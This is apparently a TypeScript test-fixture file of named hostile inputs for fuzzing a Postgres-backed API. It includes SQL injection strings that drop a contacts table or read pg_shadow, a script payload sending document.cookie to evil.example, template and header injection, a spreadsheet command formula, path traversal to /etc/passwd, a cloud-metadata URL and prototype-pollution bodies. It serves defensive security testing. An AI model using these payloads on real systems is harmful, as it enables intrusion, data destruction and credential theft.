/** What hostile callers put where a value belongs. Each has a name, so that a finding can be repeated. */

/** Written into the JSON text as it stands: values that JSON.stringify would not make. */
export class Raw {
  readonly text: string;
  constructor(text: string) {
    this.text = text;
  }
}

export const HUGE = "x".repeat(200_000);
const nested = (levels: number): Raw => new Raw(`${'{"a":'.repeat(levels)}1${"}".repeat(levels)}`);

export const TEXT: Record<string, unknown> = {
  sql: "'; drop table public.contacts; --",
  "sql union": "x' union select usename, passwd from pg_shadow --",
  "sql dollar": "$1 $$; select pg_sleep(10); $$",
  like: "%_\\%",
  html: `"><script>fetch('https://evil.example/'+document.cookie)</script><img src=x onerror=alert(1)>`,
  template: "{{constructor.constructor('return process')().exit()}} ${7*7} {% raw %}",
  "line breaks": "Hello\r\nBcc: everybody@evil.example\r\n\r\nbody",
  "U+0000": "a\u0000b",
  "U+0000 alone": "\u0000",
  "lone surrogate": new Raw('"\\ud800 and \\udc00"'),
  "right to left": "\u202egnp.exe\u2066",
  formula: "=cmd|' /C calc'!A0",
  path: "../../../../etc/passwd",
  "object path": "__proto__.polluted",
  url: "http://169.254.169.254/latest/meta-data/",
  empty: "",
  blank: " \t\u00a0\u200b ",
  huge: HUGE,
};

export const NUMBERS: Record<string, unknown> = {
  negative: -1,
  zero: 0,
  fraction: 1.5,
  "over 32 bits": 2 ** 31,
  "over 64 bits": new Raw("92233720368547758080"),
  "over 53 bits": new Raw("9007199254740993"),
  "1e309": new Raw("1e309"),
  "-1e309": new Raw("-1e309"),
  tiny: 5e-324,
  "number as text": "1e309",
};

// `__proto__` in brackets: as a plain key of a literal it would be the prototype.
export const KINDS: Record<string, unknown> = {
  null: null,
  true: true,
  "empty list": [],
  "empty object": {},
  "list of lists": [[[["x"]]]],
  "object for a value": { toString: "x", valueOf: 1, length: 1e9, toJSON: "x" },
  ["__proto__"]: new Raw('{"__proto__":{"polluted":true,"id":"x","role":"owner"}}'),
  constructor: new Raw('{"constructor":{"prototype":{"polluted":true}}}'),
  "deep, 40": nested(40),
  "deep, 5000": nested(5000),
  "20,000 items": Array.from({ length: 20_000 }, (_, i) => i),
  "key of a megabyte": { [HUGE]: 1 },
  "key with U+0000": { "a\u0000b": "x" },
};

/** Beside the fields that belong there. */
export const EXTRA: Record<string, unknown> = {
  tenant_id: "00000000-0000-7000-8000-000000000001",
  id: "00000000-0000-7000-8000-000000000002",
  role: "owner",
  created_at: "1970-01-01T00:00:00Z",
  credentials_set: ["x"],
  ["__proto__"]: new Raw('{"polluted":true,"limit":1}'),
  constructor: new Raw('{"prototype":{"polluted":true}}'),
  $where: "1=1",
  "": "empty name",
};

/** Whole bodies: bytes as they come. */
export const BODIES: Record<string, Uint8Array | string> = {
  "broken UTF-8": Uint8Array.of(0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0xc3, 0x28, 0x22, 0x7d),
  "overlong UTF-8": Uint8Array.of(0x7b, 0x22, 0xc0, 0xaf, 0x22, 0x3a, 0x31, 0x7d),
  "cut in half": '{"name":"x',
  "not JSON": "<xml>no</xml>",
  null: "null",
  list: "[1,2,3]",
  text: '"text"',
  NaN: '{"limit":NaN}',
  "10,000 brackets": "[".repeat(10_000),
  "a zip": Uint8Array.of(0x50, 0x4b, 3, 4, 0, 0, 0, 0),
};

/** Query strings as they stand behind the question mark. */
export const QUERIES: Record<string, string> = {
  twice: "limit=1&limit=2&search=a&search=b&cursor=x&cursor=y",
  brackets: "limit[]=1&search[$ne]=x&filter[all]=1",
  proto: "__proto__=x&__proto__[limit]=1&constructor=x&hasOwnProperty=1&toString=1",
  "U+0000": "search=%00&cursor=%00&status=%00&tag=%00&channel=%00&action=%00&queue=%00&file_name=%00&token=%00",
  "U+0000 inside":
    "search=a%00b&action=a%00b&queue=a%00b&channel=a%00b&reason=a%00b&file_name=a%00b&tag=a%00b&token=a%00b",
  "broken escape": "search=%&cursor=%zz&status=%f&tag=%ff%fe",
  numbers: "limit=1e309",
  negative: "limit=-1",
  hex: "limit=0x10",
  sql: "search=%27%3B%20drop%20table%20public.contacts%3B--&sort=email%3Bselect&order=desc%20nulls&status=%27",
  "cursor of another": `cursor=${btoa('["2026-01-01 00:00:00+00","x"]')}`,
  "cursor null": `cursor=${btoa("null")}`,
  "cursor deep": `cursor=${btoa("[".repeat(600))}`,
  "cursor date": `cursor=${btoa('["0001-01-01 00:00:00+00","00000000-0000-0000-0000-000000000000"]')}`,
  "cursor far date": `cursor=${btoa('["9999-12-31 23:59:59.999999+00","00000000-0000-0000-0000-000000000000"]')}`,
  filter: "filter=%7B%22field%22%3A%22__proto__%22%2C%22op%22%3A%22eq%22%2C%22value%22%3A1%7D",
  "filter broken": "filter=%7B",
  huge: `search=${"x".repeat(20_000)}`,
  "2,000 parameters": Array.from({ length: 2_000 }, (_, i) => `p${i}=1`).join("&"),
};

/** Times that Postgres and the runtime both read, at the edges. */
export const REAL_TIMES: readonly string[] = [
  "0001-01-01T00:00:00Z",
  "9999-12-31T23:59:59.999999Z",
  "2024-02-29T00:00:00+15:59",
  "2026-01-01T00:00:00-15:59",
];

/** What no calendar has, and what Postgres takes for a time but nobody else does. */
export const DATES: Record<string, unknown> = {
  "February 30": "2026-02-30T00:00:00Z",
  "February 29 of no leap year": "2026-02-29",
  "month 13": "2026-13-01T00:00:00Z",
  "day 0": "2026-01-00",
  "25 o'clock": "2026-01-01T25:00:00Z",
  "second 61": "2026-01-01T00:00:61Z",
  "offset of 25 hours": "2026-01-01T00:00:00+25:00",
  "offset of 16 hours": "2026-01-01T00:00:00+16:00",
  "offset of 99 minutes": "2026-01-01T00:00:00+01:99",
  "year 0": "0000-01-01T00:00:00Z",
  "year 10000": "10000-01-01T00:00:00Z",
  "year +010000": "+010000-01-01T00:00:00Z",
  "year 10000 in UTC": "9999-12-31T23:59:59-01:00",
  "year 0 in UTC": "0001-01-01T00:00:00+01:00",
  "rounded up to year 10000": "9999-12-31T23:59:59.9999999Z",
  BC: "2026-01-01 BC",
  "BC, signed": "-000001-01-01T00:00:00Z",
  infinity: "infinity",
  "-infinity": "-infinity",
  epoch: "epoch",
  now: "now",
  "zone by name": "2026-01-01 00:00:00 Europe/Berlin",
  "zone unknown": "2026-01-01 00:00:00 Mars/Olympus",
  interval: "P1D",
  "a fraction without end": `2026-01-01T00:00:00.${"1".repeat(5000)}Z`,
  "letters behind": "2026-01-01T00:00:00Zx",
  empty: "",
  "U+0000": "2026-01-01\u0000",
};

/** Zones that only one of Postgres and the runtime knows, that they read differently, or that nobody knows. */
export const ZONES: Record<string, unknown> = {
  unknown: "Mars/Olympus",
  // Postgres refuses these, or takes them for abbreviations, or for zones elsewhere.
  ...Object.fromEntries(
    [
      "AET",
      "AGT",
      "BET",
      "CAT",
      "CNT",
      "CTT",
      "ECT",
      "IET",
      "ACT",
      "ART",
      "AST",
      "IST",
      "CET",
      "EET",
      "MET",
      "WET",
      "EST",
    ].map((name) => [`abbreviation ${name}`, name]),
  ),
  "no place": "Etc/Unknown",
  local: "localtime",
  "offset of 25 hours": "+25:00",
  "POSIX rule": "AAA-99",
  "POSIX rule with rules": "EST5EDT,M3.2.0,M11.1.0",
  "angle brackets": "<+03>-3",
  path: "../../../etc/passwd",
  "absolute path": "/usr/share/zoneinfo/UTC",
  "half of it": "Europe/",
  quote: "Europe/Berlin'",
  interval: "1 day",
  long: `Europe/${"x".repeat(10_000)}`,
  number: 1,
  list: ["UTC"],
};

/** Whole cursors that no list made. */
export const CURSOR_WHOLES: Record<string, string> = Object.fromEntries(
  Object.entries({
    null: "null",
    number: "1e308",
    text: '"text"',
    "empty list": "[]",
    "empty object": "{}",
    "object with length": '{"0":"x","1":"y","length":2}',
    "broken JSON": '["2026',
    nested: "[".repeat(600),
    "huge number": "[1e999]",
    proto: '{"__proto__":["x"]}',
  }).map(([name, text]) => [name, btoa(text)]),
);
Object.assign(CURSOR_WHOLES, {
  "no base64": "%%%",
  "broken UTF-8": btoa("\xff\xfe\xc3\x28"),
  "only padding": "====",
  spaces: "   ",
});

/** Parts of a cursor that are no time of a row. */
export const CURSOR_TIMES: Record<string, unknown> = {
  "February 30": "2026-02-30 00:00:00+00",
  "month 13": "2026-13-01 00:00:00+00",
  "24 o'clock and a second": "2026-01-01 24:00:01+00",
  "offset of 16 hours": "2026-01-01 00:00:00+16",
  "offset of 25 hours": "2026-01-01 00:00:00+25:00",
  "offset of 99 minutes": "2026-01-01 00:00:00+01:99",
  "year 0": "0000-01-01 00:00:00+00",
  "year 10000": "10000-01-01 00:00:00+00",
  "year 10000 in UTC": "9999-12-31 23:59:59-01",
  BC: "0044-03-15 00:00:00+00 BC",
  infinity: "infinity",
};

/** Parts of a cursor of other types, and texts that no column holds. */
export const CURSOR_TEXTS = {
  null: null,
  true: true,
  "number over 64 bits": new Raw("92233720368547758080"),
  "1e999": new Raw("1e999"),
  list: ["x"],
  object: { x: 1 },
  "no uuid": "0193b5a8-0000-7000-8000-00000000000g",
  "U+0000": "a\u0000b",
  "lone surrogate": "\ud800",
  "other half": "x\udc00",
  "text beyond its length": "x".repeat(1000),
} as const satisfies Record<string, unknown>;

/** What stands in a path where an id belongs, percent-encoded as a client would. */
export const IDS: Record<string, string> = {
  "not a uuid": "x",
  sql: encodeURIComponent("' or 1=1 --"),
  "U+0000": "%00",
  "broken escape": "%ff%fe",
  nil: "00000000-0000-0000-0000-000000000000",
  long: "a".repeat(8000),
  dots: "%2e%2e%2f%2e%2e",
  proto: "__proto__",
};

/** JSON text in which Raw values stand as they are. */
export function toJson(value: unknown): string {
  if (value instanceof Raw) return value.text;
  if (Array.isArray(value)) return `[${value.map(toJson).join(",")}]`;
  if (typeof value === "object" && value !== null) {
    return `{${Object.entries(value)
      .filter(([, v]) => v !== undefined)
      .map(([k, v]) => `${JSON.stringify(k)}:${toJson(v)}`)
      .join(",")}}`;
  }
  return JSON.stringify(value) ?? "null";
}
